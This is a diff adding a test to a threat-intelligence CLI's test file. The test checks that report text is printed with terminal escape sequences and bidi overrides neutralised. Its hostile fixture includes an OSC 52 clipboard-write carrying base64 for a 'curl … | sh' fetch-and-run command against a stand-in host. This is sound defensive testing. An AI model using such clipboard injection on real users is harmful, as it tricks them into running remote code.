@@ -231,6 +231,28 @@ describe('entente extract → entente draft → a circle', () => {
     assert.equal((await show())['created_by_token'], 'ana', 'a refused assignment changes nothing');
   });
 
+  it("prints a report's own text (title, evidence, values, attachment names) without the terminal control sequences it carries", async () => {
+    // The report's author writes the title and the sentences: an escape sequence in them would
+    // reach the analyst's terminal (retitle the window, write the clipboard, erase lines, hide a
+    // value), a bidi override would show a value backwards.
+    const hostile = join(dir.path, 'hostile.txt');
+    const osc = '\u001b]52;c;Y3VybCBldmlsLnRvcCB8IHNo\u0007';
+    writeFileSync(hostile, `Operation \u001b[2J\u001b[1;1HQuiet${osc} Lantern\u202e\n\nThe loader calls 45.77.12.3 \u009b31m and hxxps://evil-c2[.]com/gate\u202e.php\u001b[8m today.\n`);
+    const extracted = await entente(data, ['extract', hostile]);
+    assert.equal(extracted.code, 0, extracted.stderr);
+    const draft = /^draft (\d+):/m.exec(extracted.stdout)?.[1] ?? '';
+    const shown = await entente(data, ['draft', 'show', draft]);
+    const listed = await entente(data, ['draft', 'list']);
+    // eslint-disable-next-line no-control-regex
+    const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+    for (const [what, out] of [['extract', extracted.stdout], ['draft show', shown.stdout], ['draft list', listed.stdout]] as const) {
+      assert.doesNotMatch(out, CONTROL, what);
+    }
+    // Shown, not dropped: the analyst sees that the document holds them.
+    assert.match(shown.stdout, /^draft \d+: Operation \\u001b\[2J\\u001b\[1;1HQuiet\\u001b\]52;c;Y3VybCBldmlsLnRvcCB8IHNo\\u0007 Lantern\\u202e$/m);
+    assert.match(shown.stdout, /45\.77\.12\.3 \\u009b31m/);
+  });
+
   it('has --help with examples', async () => {
     const help = await entente(data, ['draft', '--help']);
     assert.match(help.stdout, /entente draft publish 7 --circle wide --tlp amber/);
